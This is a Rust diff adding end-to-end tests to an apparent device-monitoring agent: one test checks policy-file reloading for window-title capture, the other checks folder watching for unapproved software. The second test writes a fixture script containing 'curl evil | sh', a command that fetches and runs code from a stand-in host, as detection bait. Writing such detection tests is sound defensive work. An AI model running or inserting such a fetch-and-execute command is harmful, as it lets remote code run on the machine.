@@ -6,7 +6,7 @@ use std::path::Path;
 use std::process::Command;
 use std::time::Duration;
 
-use hallmonitor_e2e::fixtures::*;
+use hallmonitor_e2e::fixtures::{self, *};
 use hallmonitor_e2e::{Agent, CollectorData, Process, Value, agent_bin, text, wait_for};
 use x11rb::connection::Connection;
 use x11rb::protocol::xproto::{
@@ -345,11 +345,17 @@ fn a_local_policy_file_is_reloaded_and_a_broken_edit_keeps_the_last_good_one() {
     std::fs::write(&policy, rule("yellow submarine")).unwrap();
     let mut n = 0;
     wait_for("the edited policy in force", WAIT, || {
+        // New windows until the helper has reloaded; any of them counts.
         n += 1;
-        let title = format!("yellow submarine {n}");
-        titled(&title);
-        std::thread::sleep(Duration::from_millis(200));
-        captured(&title).then_some(())
+        titled(&format!("yellow submarine {n}"));
+        captures(&data)
+            .iter()
+            .any(|c| {
+                c["window_title"]
+                    .as_str()
+                    .is_some_and(|t| t.starts_with("yellow submarine "))
+            })
+            .then_some(())
     });
 
     // A broken edit is refused (logged) and the last good policy stays.
@@ -364,4 +370,61 @@ fn a_local_policy_file_is_reloaded_and_a_broken_edit_keeps_the_last_good_one() {
     wait_for("the last good policy still matching", WAIT, || {
         captured("yellow submarine again").then_some(())
     });
+}
+
+#[test]
+fn new_software_in_a_watched_folder_is_reported_once() {
+    let data = CollectorData::init("Cabot");
+    let collector = data.start();
+    let downloads = tempfile::tempdir().unwrap();
+    let agent = Agent::with_config(
+        &data.agent_settings(&collector, "e2e-files-1"),
+        "",
+        &format!("[files]\nwatch = [\"{}\"]\n", downloads.path().display()),
+    );
+    let id = agent.enroll();
+    let _daemon = agent.start();
+    let alerts = || -> Vec<Value> {
+        fixtures::runtime().block_on(async {
+            let pool = sqlx::SqlitePool::connect_with(
+                sqlx::sqlite::SqliteConnectOptions::new().filename(data.data.join("collector.db")),
+            )
+            .await
+            .unwrap();
+            let bodies: Vec<String> = sqlx::query_scalar(
+                "SELECT body FROM events WHERE device_id = ? AND kind = 'file_alert' ORDER BY seq",
+            )
+            .bind(&id)
+            .fetch_all(&pool)
+            .await
+            .unwrap();
+            pool.close().await;
+            bodies
+                .iter()
+                .map(|b| serde_json::from_str(b).unwrap())
+                .collect()
+        })
+    };
+    // The watcher looks at the folder once it has started; a document
+    // first (not software), then a script.
+    let essay = downloads.path().join("essay.docx");
+    let script = downloads.path().join("free-robux.sh");
+    wait_for("the script to be reported", WAIT, || {
+        std::fs::write(&essay, b"words").unwrap();
+        std::fs::write(&script, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+        (!alerts().is_empty()).then_some(())
+    });
+    let found = alerts();
+    assert!(
+        found
+            .iter()
+            .all(|a| a["path"] != essay.display().to_string()),
+        "{found:?}"
+    );
+    let alert = &found[0];
+    assert_eq!(alert["path"], script.display().to_string());
+    assert_eq!(alert["severity"], 2);
+    assert_eq!(alert["category"], "unapproved-software");
+    assert_eq!(alert["sha256"].as_str().unwrap().len(), 64);
+    assert_eq!(found.len(), 1, "the same file once: {found:?}");
 }
